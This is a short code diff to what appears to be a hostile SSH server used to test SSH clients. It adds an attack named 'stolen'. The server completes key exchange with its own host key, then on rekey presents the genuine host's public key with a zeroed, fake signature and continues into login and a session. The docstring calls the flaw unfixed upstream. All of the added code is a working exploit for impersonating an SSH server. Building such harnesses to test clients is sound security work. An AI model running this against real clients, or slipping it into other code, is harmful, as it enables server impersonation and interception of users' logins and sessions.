@@ -376,6 +376,21 @@ def rekey(c, first, then):
     c.serve()
 
 
+def stolen(c):
+    """Not mended upstream: keys agreed on with a host key of ours, then, when new ones are to be, the host's own key, which
+    all may know, with a signature that is none; then all goes on with the keys that are there."""
+    c.host_key = Ed25519PrivateKey.generate()
+    c.host_blob = string(b'ssh-ed25519') + string(public(c.host_key))
+    to_handshake(c)
+    signature = string(b'ssh-ed25519') + string(bytes(64))
+    reply = bytes([KEX_REPLY]) + string(Connection.host_blob) + string(public(X25519PrivateKey.generate())) + string(signature)
+    # At once, so that the client sees the end of the exchange where it sees its beginning.
+    c.sock.sendall(c.seal(c.kexinit()) + c.seal(reply) + c.seal(bytes([SERVICE_ACCEPT]) + string(b'ssh-userauth')))
+    c.log_in()
+    c.open_channel()
+    c.serve()
+
+
 def sig_algs(c, value):
     """b671ac9b: more algorithms for signatures than the client knows, by repeating one."""
     c.greet()
@@ -455,6 +470,7 @@ ATTACKS = {
     'rekey-gcm-ctr': lambda c: rekey(c, (GCM,), (CTR,)),
     'rekey-ctr-mac': lambda c: rekey(c, (CTR,), (CTR, MAC512)),
     'rekey-same': lambda c: rekey(c, (CHACHA,), (CHACHA,)),
+    'stolen': stolen,
     'listing': lambda c: answer(c, 12, huge_listing),
     'realpath': lambda c: answer(c, 16, refused_path),
 }
